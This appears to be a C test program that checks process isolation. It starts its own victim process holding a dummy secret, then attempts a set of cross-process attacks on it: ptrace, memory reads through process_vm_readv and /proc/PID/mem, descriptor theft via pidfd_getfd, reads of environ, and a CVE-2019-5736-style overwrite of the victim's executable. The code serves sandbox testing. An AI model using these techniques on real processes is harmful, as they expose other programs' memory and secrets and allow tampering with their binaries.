/* Processes of the host ($HOST, of the program "secret"): their memory, descriptors, program. $ADDRESS is where the secret lies. */
#include "attack.h"
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

static pid_t host;
static void *address;

/* Filled in by the victim itself when it is told to be one. */
static char secret[32];

static long found(const char *text) { return strcmp(text, "secret of the host") ? NOTHING_FOUND : 0; }

static long trace(void)
{
	if (ptrace(PTRACE_SEIZE, host, 0, 0))
		return -1;
	return ptrace(PTRACE_DETACH, host, 0, 0) && errno != ESRCH ? -1 : 0;
}
static long read_memory(void)
{
	char text[32] = "";
	struct iovec here = { text, sizeof(text) }, there = { address, sizeof(text) };
	return process_vm_readv(host, &here, 1, &there, 1, 0) < 0 ? -1 : found(text);
}
static long read_mem_file(void)
{
	char path[64], text[32] = "";
	int fd;
	snprintf(path, sizeof(path), "/proc/%d/mem", host);
	fd = open(path, O_RDONLY);
	return fd < 0 || pread(fd, text, sizeof(text), (long)address) < 0 ? -1 : found(text);
}
static long take_descriptor(void)
{
	int fd = syscall(SYS_pidfd_open, host, 0);
	return fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 0, 0);
}
static long open_file(const char *name, int how)
{
	char path[64];
	snprintf(path, sizeof(path), "/proc/%d/%s", host, name);
	return open(path, how);
}
static long open_descriptor(void) { return open_file("fd/0", O_RDONLY); }
static long open_program(void) { return open_file("exe", O_RDONLY); }
static long open_environment(void)
{
	char byte;
	int fd = open_file("environ", O_RDONLY);
	return fd < 0 ? -1 : read(fd, &byte, 1);
}
static long signal_it(void) { return kill(host, SIGCONT); }
static long compare(void) { return syscall(SYS_kcmp, getpid(), host, 0, 0, 0) < 0 ? -1 : 0; }
static long limit_it(void) { return syscall(SYS_prlimit64, host, 7, 0, secret); }

/*
 * CVE-2019-5736: keep the victim's program open for reading, and when the victim is gone write to it through /proc/self/fd.
 * $PROGRAM is what is written.
 */
static long overwrite(void)
{
	char path[64];
	int kept = open_file("exe", O_RDONLY), fd = -1;
	if (kept < 0)
		return -1;
	kill(host, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", kept);
	for (int i = 0; i < 200 && fd < 0; i++, usleep(10000))
		fd = open(path, O_WRONLY | O_TRUNC);
	return fd < 0 ? -1 : write(fd, "overwritten\n", 12);
}

static const struct attack ATTACKS[] = {
	{ "ptrace", trace }, { "process_vm_readv", read_memory }, { "mem", read_mem_file }, { "pidfd_getfd", take_descriptor },
	{ "fd", open_descriptor }, { "exe", open_program }, { "environ", open_environment }, { "kill", signal_it }, { "kcmp", compare },
	{ "prlimit", limit_it }, { "overwrite", overwrite },
	{ 0, 0 },
};

int main(int argc, char **argv)
{
	if (argc == 2 && !strcmp(argv[1], "victim")) {
		strcpy(secret, "secret of the host");
		printf("%lu\n", (unsigned long)secret);
		fflush(stdout);
		for (;;)
			pause();
	}
	host = atoi(getenv("HOST"));
	address = (void *)strtoul(getenv("ADDRESS"), 0, 10);
	return attack_main(ATTACKS, argc, argv);
}
